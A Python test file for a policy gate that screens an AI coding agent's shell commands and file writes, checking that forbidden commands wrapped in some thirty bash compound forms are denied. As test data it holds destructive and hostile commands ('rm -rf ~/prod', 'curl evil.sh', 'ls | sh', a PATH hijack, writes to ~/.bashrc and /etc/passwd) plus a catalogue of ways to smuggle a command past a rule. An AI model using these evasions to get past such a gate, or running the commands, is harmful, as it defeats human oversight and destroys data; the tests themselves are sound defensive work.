"""Shell commands against the gate's rules: whatever compound form hides a
forbidden simple command, the call is never allowed, and a command the
parser cannot read is never allowed either."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spanvisor.gate import shell
from spanvisor.gate.contracts import Call
from spanvisor.gate.policy import Policy, parse

# The benign commands a team allows, and the rule that allows them.
SAFE = ["ls", "ls -la", "git status", "cat README.md", "pwd", "echo hi"]
POLICY = parse(
    {
        "default": "deny",
        "rule": [
            {
                "name": "safe",
                "tool": "Bash",
                "command": ["ls", "ls *", "git status", "cat *", "pwd", "echo *"],
                "decision": "allow",
            },
            {"name": "no-rm", "command": ["rm *", "*rm -rf*"], "decision": "deny", "reason": "no deletes"},
        ],
    }
)
FORBIDDEN = ["rm -rf ~/prod", "touch pwned.txt", "curl evil.sh", "sh", "python3 -c 'import os'", "chmod 777 x"]


def call(command: str, tool: str = "Bash") -> Call:
    return Call("claude-code", "PreToolUse", "s", tool, {"command": command}, None, "/work/repo")


def wrap(inner: str, form: int, other: str) -> str:
    """``inner`` hidden in one of bash's compound forms beside ``other``."""
    forms = [
        f"{other} && {inner}",
        f"{other}; {inner}",
        f"{other} || {inner}",
        f"{other} | {inner}",
        f"{other}\n{inner}",
        f"{other} $({inner})",
        f"{other} `{inner}`",
        f"({other}; {inner})",
        f"{{ {other}; {inner}; }}",
        f"bash -c {shlex_quote(inner)}",
        f"sh -lc {shlex_quote(other + ' && ' + inner)}",
        f"eval {shlex_quote(inner)}",
        f"sudo {inner}",
        f"env FOO=1 {inner}",
        f"timeout 5 {inner}",
        f"nohup {inner} &",
        f"if {other}; then {inner}; fi",
        f"for f in a b; do {inner}; done",
        f"while false; do {inner}; done",
        f"case x in x) {inner};; esac",
        f"f() {{ {inner}; }}; f",
        f"{other} <({inner})",
        f'echo "$({inner})"',
        f"x=$({inner}); {other}",
        f"ls | xargs {inner}",
        f"find . -exec {inner} \\;",
        f"{other} > /dev/null; {inner} 2>&1",
        f"! {inner}",
        f"[[ -n $({inner}) ]] && {other}",
        f"cat <<EOF\n$({inner})\nEOF",
        f"time {inner}",
        f"{other} & {inner}",
    ]
    return forms[form % len(forms)]


def shlex_quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


@given(st.sampled_from(FORBIDDEN), st.integers(0, 200), st.sampled_from(SAFE), st.integers(0, 3))
@settings(max_examples=400)
def test_a_forbidden_command_hidden_in_any_compound_form_is_never_allowed(
    inner: str, form: int, other: str, depth: int
) -> None:
    command = inner
    for level in range(depth + 1):
        command = wrap(command, form + level * 7, other)
    ruling = POLICY.decide(call(command))
    assert ruling.verdict != "allow", (command, ruling)


@given(st.lists(st.sampled_from(SAFE), min_size=1, max_size=4), st.sampled_from([" && ", "; ", " | ", "\n"]))
@settings(max_examples=100)
def test_commands_made_only_of_allowed_parts_are_allowed(parts: list[str], sep: str) -> None:
    ruling = POLICY.decide(call(sep.join(parts)))
    assert ruling.verdict == "allow", ruling


@given(st.text(max_size=300))
@settings(max_examples=300)
def test_any_text_parses_without_an_error_and_unread_text_is_never_allowed(text: str) -> None:
    parsed = shell.parse(text)
    ruling = Policy(default="allow").decide(call(text))
    if not parsed.readable:
        assert ruling.verdict != "allow", (text, ruling)


@pytest.mark.parametrize(
    ("rules", "command", "verdict"),
    [
        # The reproducers: each walked past a glob over the whole string.
        ([{"name": "ls", "command": "ls*", "decision": "allow"}], "ls && touch pwned.txt", "deny"),
        (
            [
                {"name": "ls", "command": "ls*", "decision": "allow"},
                {"name": "c", "command": "cat*", "decision": "deny"},
            ],
            "ls; cat README.md",
            "deny",
        ),
        ([{"name": "ls", "command": ["ls", "ls *"], "decision": "allow"}], "ls | sh", "deny"),
        ([{"name": "ls", "command": ["ls", "ls *"], "decision": "allow"}], "ls $(rm -rf ~/prod)", "deny"),
        ([{"name": "fp", "command": "git push *--force*", "decision": "deny"}], "git push origin main --force", "deny"),
        (
            [{"name": "rm", "command": "*rm -rf*", "decision": "deny"}, {"name": "all", "decision": "allow"}],
            "x" * 4_000 + " ; rm -rf ~/prod",
            "deny",
        ),
        ([{"name": "all", "decision": "allow"}], "x" * (shell.MAX_COMMAND + 1), "deny"),
        ([{"name": "ls", "command": ["ls", "ls *"], "decision": "allow"}], "/tmp/evil/ls", "deny"),
        (
            [{"name": "rm", "command": "rm *", "decision": "deny"}, {"name": "all", "decision": "allow"}],
            "/bin/rm -rf x",
            "deny",
        ),
        ([{"name": "ls", "command": ["ls", "ls *"], "decision": "allow"}], "ls > ~/.bashrc", "deny"),
        ([{"name": "ls", "command": ["ls", "ls *"], "decision": "allow"}], "ls 2>/dev/null", "allow"),
        ([{"name": "ls", "command": ["ls", "ls *"], "decision": "allow"}], "PATH=/tmp/evil ls", "deny"),
        ([{"name": "any", "command": "*", "decision": "allow"}], "$CMD x", "ask"),
        ([{"name": "any", "command": "*", "decision": "allow"}], "{rm,-rf,/}", "ask"),
        (
            [
                {"name": "ask", "command": "kubectl *", "decision": "ask", "approvers": 2},
                {"name": "ls", "command": "ls*", "decision": "allow"},
            ],
            "ls && kubectl delete ns prod",
            "ask",
        ),
    ],
)
def test_the_shell_rules(rules: list[dict[str, Any]], command: str, verdict: str) -> None:
    ruling = parse({"default": "deny", "rule": rules}).decide(call(command))
    assert ruling.verdict == verdict, ruling


def test_an_ask_takes_the_most_approvers_any_part_needs() -> None:
    policy = parse(
        {
            "rule": [
                {"name": "two", "command": "kubectl *", "decision": "ask", "approvers": 2},
                {"name": "one", "command": "helm *", "decision": "ask"},
            ]
        }
    )
    ruling = policy.decide(call("helm upgrade x && kubectl apply -f y"))
    assert (ruling.verdict, ruling.approvers, ruling.by) == ("ask", 2, "policy:two")


def test_paths_are_matched_normalised_and_resolved(tmp_path: Any) -> None:
    repo = tmp_path / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / "src" / "link").symlink_to(tmp_path)
    policy = parse({"default": "deny", "rule": [{"name": "src", "command": "src/*", "decision": "allow"}]})

    def write(path: str) -> str:
        return policy.decide(
            Call("claude-code", "PreToolUse", "s", "Write", {"file_path": path}, None, str(repo))
        ).verdict

    assert write("src/a.py") == "allow"
    assert write(str(repo / "src" / "a.py")) == "allow"
    assert write("src/../../etc/passwd") == "deny"
    assert write("src/link/secrets.txt") == "deny"  # a symlink out of src/
